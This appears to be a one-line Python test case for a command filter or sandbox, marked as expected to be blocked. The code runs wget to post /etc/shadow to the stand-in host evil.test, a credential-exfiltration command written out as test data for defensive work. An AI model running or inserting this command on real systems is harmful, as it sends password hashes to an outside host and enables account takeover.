# expect: BLOCKED
import os
os.system("wget --post-file=/etc/shadow http://evil.test")
